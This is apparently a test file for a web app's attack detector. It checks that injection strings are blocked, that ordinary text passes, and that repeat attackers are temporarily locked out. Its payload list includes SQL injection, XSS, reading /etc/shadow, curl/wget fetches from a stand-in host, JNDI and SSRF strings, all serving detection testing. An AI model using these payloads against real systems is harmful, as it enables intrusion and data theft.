"""Attacks are found, ordinary words are not, and both take the same linear time."""

import time

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from headshotly.audit.actor import SYSTEM, Actor
from headshotly.audit.acts import Act
from headshotly.audit.models import PendingEntry
from headshotly.incidents import blocks, inspecting, pseudonyms
from headshotly.incidents.models import Alert, Block
from headshotly.incidents.reading import SpoolReader
from headshotly.incidents.sources import web
from headshotly.incidents.stream import Stream

ATTACKS = {
    "SQL injection": [
        "1' OR '1'='1",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "1/**/UNION/**/SELECT/**/1",
        "%27%20or%201%3D1",
        "%2527%20or%201%3D1",
        "'; DROP TABLE accounts_customer; --",
        "1 and sleep(5)",
        "x') or pg_sleep(10)--",
        "select * from information_schema.tables",
        "\uff07 or 1=1",
    ],
    "Cross-site scripting": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=fetch('//x')>",
        "javascript:alert(document.cookie)",
        "%3Cscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003e",
        '";alert(1)//',
    ],
    "Path traversal": [
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "/.git/config",
        "/.env",
        "..\\..\\windows\\win.ini",
    ],
    "Command injection": [
        "; cat /etc/shadow",
        "| id",
        "$(curl http://x)",
        "`whoami`",
        "() { :; }; /bin/bash -c ls",
        "a && wget x.sh",
    ],
    "Template injection": [
        "${jndi:ldap://x/a}",
        "{{7*7}}",
        "{{config.items()}}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${${lower:j}ndi:x}",
    ],
    "Code injection": ["__import__('os')", "<?php system($_GET[0]);", "x.__class__.__mro__"],
    "Server-side request forgery": ["http://169.254.169.254/latest/meta-data", "gopher://x:70/_", "file:///etc/hosts"],
    "XML external entity": ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    "Header injection": ["x\r\nSet-Cookie: a=b"],
}
ORDINARY = [
    "O'Brien", "D'Angelo & Sons", "Jean-Luc Picard", "Łukasz Żółć", "ada@example.org", "5 < 6 and 7 > 3",
    "I'd like my photos deleted; or at least the ones from May, please.",
    "Select the best one and update me.", "Who opened my photos on 2026-11-20? I don't know anybody there.",
    "The union of both selections is fine.", "My password is not the problem -- the second factor is.",
    "Please drop me a line; table 5 was nice.", "What's your script for refunds?", "I or my wife, like 2 of us",
    "It costs $20 (or 18€); is that right?", "C:\\Users\\me\\photo.jpg", "cat; dog", "Q&A: id cards & passports",
    "Nobody's data, nobody's 'business'", "10% off; 2*2=4", "a=b&c=d", "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0 Safari/537.36",
    "/studio/shoots/2f0c/", "https://headshotly.example/account/", "1' 80\" tall", "#1e5d4c", "rock 'n' roll and/or jazz",
    "Can you delete from my account everything where it's older than a year?", "John (or Jane) = same person",
    "I'm on-call on Mondays; ping me", 'He said: "alert me"; confirm later', "image/svg+xml", "base64, data: yes",
    "2026-11-27T12:00", "Mr. & Mrs. Link", "We need 'meta' data only", "the system (ours) is down", "kto otworzył moje zdjęcia?",
]  # fmt: skip


@pytest.mark.clause("2.3.b")
@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts])
def test_an_attack_is_found_and_enough_to_block(kind: str, text: str) -> None:
    found = inspecting.inspect([("query", text)])
    assert kind in {one.kind for one in found}
    assert inspecting.blocks(found)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_are_no_attack(text: str) -> None:
    assert inspecting.inspect([("form", text), ("query", text)]) == []


def test_tools_are_known_by_name_and_too_many_values_are_one_finding() -> None:
    assert inspecting.blocks(inspecting.inspect([("agent", "sqlmap/1.8#stable")]))
    assert inspecting.inspect([("agent", "curl/8.5.0")]) == []
    assert [one.kind for one in inspecting.inspect([("query", "a")] * 501)] == ["Too many values"]


BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
]


@pytest.mark.parametrize("agent", BROWSERS)
@pytest.mark.parametrize("host", ["localhost:8443", "127.0.0.1:8443", "[::1]:8443", "headshotly.example"])
def test_a_browser_that_clicks_on_a_link_is_no_attack(agent: str, host: str) -> None:
    came_from = [("header", f"https://{host}/account/sign-in/?next=/studio/"), ("header", "pl-PL,pl;q=0.9,en;q=0.8")]
    assert inspecting.inspect([("agent", agent), *came_from]) == []


@given(st.text(max_size=400))
def test_nothing_makes_the_inspection_fail(text: str) -> None:
    inspecting.inspect([("query", text), ("agent", text)])


@pytest.mark.parametrize(
    "text", ["<a " * 7000, "' or " * 4000, "/*" * 10000, "%25" * 7000, "{{" * 10000, "&#60;" * 4000]
)
def test_hostile_texts_take_no_longer_than_long_ones(text: str) -> None:
    began = time.perf_counter()
    inspecting.inspect([("query", text)])
    assert time.perf_counter() - began < 1.0


pages = pytest.mark.django_db(transaction=True, databases=["default", "journal", "keys"])


@pytest.fixture(autouse=True)
def _nobody_blocked():
    blocks.forget()
    yield
    blocks.forget()


@pages
@pytest.mark.clause("2.3.b")
def test_a_planted_attack_is_blocked_and_seen_as_an_alert(detector) -> None:
    client = Client(REMOTE_ADDR="198.51.100.7")
    assert client.get("/", secure=True).status_code == 200
    answer = client.get("/?id=1%27%20OR%20%271%27=%271", secure=True)
    assert answer.status_code == 403
    assert b"looks like an attack" in answer.content
    answer = client.post("/account/sign-in/", {"email": "<script>alert(1)</script>", "password": "x"}, secure=True)
    assert answer.status_code == 403
    Stream([SpoolReader("web", web.observe)], detector).step()
    alert = Alert.objects.get(title="A request was blocked")
    assert alert.hits == 2
    assert alert.address.startswith("ip-")


@pages
def test_a_password_may_be_anything() -> None:
    answer = Client().post(
        "/account/sign-in/", {"email": "ada@example.org", "password": "' or 1=1 -- <script>"}, secure=True
    )
    assert answer.status_code == 401


@pages
def test_noting_blocks_nobody(settings) -> None:
    import dataclasses

    settings.HEADSHOTLY = dataclasses.replace(settings.HEADSHOTLY, options={"inspection.mode": "note"})
    assert Client().get("/?q=<script>", secure=True).status_code == 200


@pages
@pytest.mark.clause("2.3.b", "5.3.b")
def test_who_attacks_again_and_again_is_shut_out_for_a_while_and_let_in_again(detector) -> None:
    client = Client(REMOTE_ADDR="198.51.100.7")
    for _ in range(5):
        client.get("/?q=<script>alert(1)</script>", secure=True)
    Stream([SpoolReader("web", web.observe)], detector).step()
    blocks.forget()
    (block,) = blocks.in_force()
    assert block.address == pseudonyms.of_address("198.51.100.7")
    assert Alert.objects.get(id=block.alert).title == "One address attacks again and again"
    answer = client.get("/", secure=True)
    assert answer.status_code == 403
    assert b"for a few minutes" in answer.content
    assert Client(REMOTE_ADDR="198.51.100.9").get("/", secure=True).status_code == 200
    blocks.lift(actor=Actor(kind="staff", id=block.alert, role="security-officer"), block_id=block.id)
    assert client.get("/", secure=True).status_code == 200
    acts = [bytes(row.leaf) for row in PendingEntry.objects.all()]
    assert any(Act.ADDRESS_BLOCKED.encode() in leaf for leaf in acts)
    assert any(Act.ADDRESS_UNBLOCKED.encode() in leaf for leaf in acts)


@pages
def test_an_address_nobody_knows_is_never_blocked() -> None:
    assert blocks.begin(actor=SYSTEM, address=pseudonyms.UNKNOWN, reason="x") is None
    assert blocks.begin(actor=SYSTEM, address="198.51.100.7", reason="x") is None
    for inner in ("127.0.0.1", "10.2.3.4", "::1", "not an address"):
        assert blocks.begin(actor=SYSTEM, address=pseudonyms.of_address(inner), reason="x") is None
    assert Block.objects.count() == 0


@pages
def test_a_block_ends_by_itself() -> None:
    import datetime as dt

    blocks.begin(actor=SYSTEM, address="ip-1", reason="x", length=dt.timedelta(seconds=-1))
    assert blocks.in_force() == []
